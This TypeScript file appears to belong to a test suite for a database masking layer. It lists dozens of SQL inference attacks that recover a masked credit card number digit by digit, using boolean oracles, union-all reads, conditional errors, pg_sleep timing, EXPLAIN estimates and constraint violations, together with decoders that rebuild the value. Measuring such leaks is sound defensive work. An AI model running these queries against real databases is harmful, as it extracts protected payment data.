/** What one condition tells: a bit, or a small number, a statement. Counted, for masking alone does not close it. */
import type { Attack } from '../attack.ts';
import { simple } from '../attack.ts';

const DIGITS = Array.from({ length: 16 }, (_, at) => at + 1);

/** Many statements, each of which tells one digit by where it stands in the answers. */
const perDigit = (statement: (position: number, digit: number) => string): string[] =>
  DIGITS.flatMap((position) => Array.from({ length: 10 }, (_, digit) => statement(position, digit)));

const readBits: Attack['decoder'] = ({ results }) => {
  const digits = results.map(({ rows, tag }) => {
    const count = rows.length === 1 && rows[0]!.length > 0 ? Number(rows[0]![0]) : Number(/\d+$/.exec(tag)?.[0] ?? 0);
    return count > 0 ? 1 : 0;
  });
  return [DIGITS.map((position) => digits.slice((position - 1) * 10, position * 10).indexOf(1)).join('')];
};

const statements = simple(
  'oracles, a statement each',
  [
    [
      'equality of a digit, count',
      ...perDigit((at, digit) => `select count(*) from users2 where id=1 and substr(card,${at},1) = '${digit}'`),
    ],
    [
      'equality of a digit, rows',
      ...perDigit((at, digit) => `select id from users2 where id=1 and substr(card,${at},1) = '${digit}'`),
    ],
    [
      '108 comparison',
      ...perDigit(
        (at, digit) =>
          `select count(*) from users2 where id=1 and substr(card,${at},1)::int between ${digit} and ${digit}`,
      ),
    ],
    [
      'LIKE',
      ...perDigit(
        (at, digit) => `select count(*) from users2 where id=1 and card like '${'_'.repeat(at - 1)}${digit}%'`,
      ),
    ],
    [
      'regular expression',
      ...perDigit((at, digit) => `select count(*) from users2 where id=1 and card ~ '^.{${at - 1}}${digit}'`),
    ],
    [
      'update tag',
      ...perDigit(
        (at, digit) =>
          `update nums set t = t where n = 1 and exists (select from users2 where id=1 and substr(card,${at},1) = '${digit}')`,
      ),
    ],
    [
      'sublink',
      ...perDigit(
        (at, digit) =>
          `select count(*) from plain where id = 1 and (select substr(card,${at},1) from users2 where id=1) = '${digit}'`,
      ),
    ],
    [
      'position',
      ...perDigit(
        (at, digit) => `select count(*) from users2 where id=1 and strpos(substr(card,${at}), '${digit}') = 1`,
      ),
    ],
    [
      'exists',
      ...perDigit(
        (at, digit) =>
          `select count(*) from plain where id = 1 and exists (select from users2 where id=1 and substr(card,${at},1) = '${digit}')`,
      ),
    ],
    [
      'join condition',
      ...perDigit(
        (at, digit) =>
          `select count(*) from plain p join users2 u on p.id = u.id and substr(u.card,${at},1) = '${digit}' where u.id=1`,
      ),
    ],
    [
      'group by',
      ...perDigit(
        (at, digit) =>
          `select count(*) from (select 1 from users2 where id=1 group by card having substr(card,${at},1) = '${digit}') s`,
      ),
    ],
    [
      'row comparison',
      ...perDigit((at, digit) => `select count(*) from users2 where (id, substr(card,${at},1)) = (1, '${digit}')`),
    ],
  ],
  { oracle: true, decoder: readBits },
);

const branches = (join: string, each: (position: number, digit: number) => string) => perDigit(each).join(join);
const found: Attack['decoder'] = ({ results }) =>
  results.flatMap(({ rows }) => {
    const texts = rows.flat().flatMap((cell) => (cell?.toString() ?? '').replace(/[{}]/g, '').split(','));
    const flat = texts.map((text) => (text === 't' ? 1 : Number(text) || 0));
    const bits = flat.length === 160 ? flat : [];
    return [
      DIGITS.map((position) => bits.slice((position - 1) * 10, position * 10).findIndex((bit) => bit > 0)).join(''),
      flat.map((number) => number % 10).join(''),
      // One character a cell, of a number of ten for each position.
      [
        ...rows
          .flat()
          .map((cell) => cell?.toString() ?? '')
          .join(''),
      ].join(''),
    ];
  });

/** In one statement a whole value: this is no oracle, it is a way to read. */
const inOne = simple(
  'many conditions in one statement',
  [
    [
      'union all',
      branches(
        ' union all ',
        (at, digit) => `select count(*) from users2 where id=1 and substr(card,${at},1) = '${digit}'`,
      ),
    ],
    [
      'filters',
      `select ${branches(', ', (at, digit) => `count(*) filter (where substr(card,${at},1) = '${digit}')`)} from users2 where id=1`,
    ],
    [
      'cases',
      `select ${branches(', ', (at, digit) => `case when substr(card,${at},1) = '${digit}' then 1 else 0 end`)} from users2 where id=1`,
    ],
    ['booleans', `select ${branches(', ', (at, digit) => `substr(card,${at},1) = '${digit}'`)} from users2 where id=1`],
    [
      'sublinks',
      `select ${branches(', ', (at, digit) => `exists (select from users2 where id=1 and substr(card,${at},1) = '${digit}')`)}`,
    ],
    [
      'constants chosen',
      `select ${DIGITS.map((at) => `(select v from (${Array.from({ length: 10 }, (_, digit) => `select ${digit} v from users2 where id=1 and substr(card,${at},1) = '${digit}'`).join(' union all ')}) s)`).join(', ')}`,
    ],
    [
      'rows chosen',
      DIGITS.map(
        (at) => `(select n from nums where n < 10 and n::text = (select substr(card,${at},1) from users2 where id=1))`,
      ).join(' union all '),
    ],
    [
      'values listed',
      `select v.d from (values ${Array.from({ length: 10 }, (_, digit) => `('${digit}')`).join(',')}) v(d), generate_series(1,16) g, users2 u where u.id=1 and substr(u.card,g,1) = v.d order by g`,
    ],
    [
      'ranks',
      'select g, (select count(*) from nums n where n.n < 10 and n.n < substr(u.card,g,1)::int) from users2 u, generate_series(1,16) g where u.id=1 order by g',
    ],
    [
      'order by',
      'select n from nums, generate_series(1,16) g where n < 10 and n = (select substr(card,g,1)::int from users2 where id=1) order by g',
    ],
    [
      'array of booleans',
      `select array[${branches(', ', (at, digit) => `substr(card,${at},1) = '${digit}'`)}]::text from users2 where id=1`,
    ],
    [
      'sums of cases',
      `select ${DIGITS.map((at) => `sum(case substr(card,${at},1) ${Array.from({ length: 10 }, (_, digit) => `when '${digit}' then ${digit}`).join(' ')} end)`).join(', ')} from users2 where id=1`,
    ],
    [
      'intersected with numbers',
      `select n::text from nums where n < 10000 and n = any (select substr(card,g*4-3,4)::int from users2, generate_series(1,4) g where id=1)`,
    ],
    [
      'join with numbers',
      'select a.t, b.t, c.t, d.t from users2 u, nums a, nums b, nums c, nums d where u.id=1 and a.n = substr(u.card,1,4)::int and b.n = substr(u.card,5,4)::int and c.n = substr(u.card,9,4)::int and d.n = substr(u.card,13,4)::int',
    ],
    [
      'except',
      `select n::text from nums where n < 10000 except (select n::text from nums where n <> (select left(card,4)::int from users2 where id=1)) union all select t from nums where n = (select substr(card,5,4)::int from users2 where id=1) union all select t from nums where n = (select substr(card,9,4)::int from users2 where id=1) union all select t from nums where n = (select substr(card,13,4)::int from users2 where id=1)`,
    ],
    [
      'ids as digits',
      `select p.id - 1 from plain p, generate_series(1,16) g, users2 u where u.id=1 and p.id - 1 = substr(u.card,g,1)::int order by g`,
    ],
    [
      'returning ids',
      `with p as (update nums set t = t where n < 10 returning n) select p.n from p, generate_series(1,16) g, users2 u where u.id=1 and p.n = substr(u.card,g,1)::int order by g`,
    ],
    [
      'written answers',
      `insert into notes (body) select string_agg(v.d, '' order by g) from (values ${Array.from({ length: 10 }, (_, digit) => `('${digit}')`).join(',')}) v(d), generate_series(1,16) g, users2 u where u.id=1 and substr(u.card,g,1) = v.d`,
      'select body from notes',
    ],
  ],
  { decoder: found },
).map((attack) => (attack.id === 'intersected with numbers' ? { ...attack, gives: 'nothing' as const } : attack));

const others = simple(
  'oracles, other',
  [
    ['107 range count', "select count(*) from users2 where card > '4' and card < '5'"],
    ['109 conditional error', "select 1/(case when card like '4%' then 1 else 0 end) from users2 where id=1"],
    ['110 timing', "select pg_sleep(case when card like '4%' then 0.01 else 0 end) from users2 where id=1"],
    ['111 EXPLAIN estimate', "explain select 1 from users2 where card='4111111111111111'"],
    ['order by', 'select id from users2 order by card'],
    ['unique violation', "insert into strict (id, card, ssn, qty) values (99, '4111111111111111', 'x', 1)"],
    ['distinct', 'select count(distinct left(card, 1)) from users2'],
    ['group sizes', 'select count(*) from users2 group by left(card, 1)'],
    ['rank', 'select id, rank() over (order by card) from users2'],
    [
      'limit by a condition',
      "select n from nums limit (select case when card like '4%' then 3 else 1 end from users2 where id=1)",
    ],
    ['length', 'select length(card) from users2'],
    ['hash', 'select md5(card) from users2'],
    ['is null', 'select card is null from users2'],
    ['foreign key', "insert into refers values (9, '4111111111111111', 'x')"],
    ['equality join', 'select o.id from orders o join users u on o.card = u.card'],
  ],
  { oracle: true, gives: 'nothing' },
);

export const ORACLES: readonly Attack[] = [...statements, ...inOne, ...others];
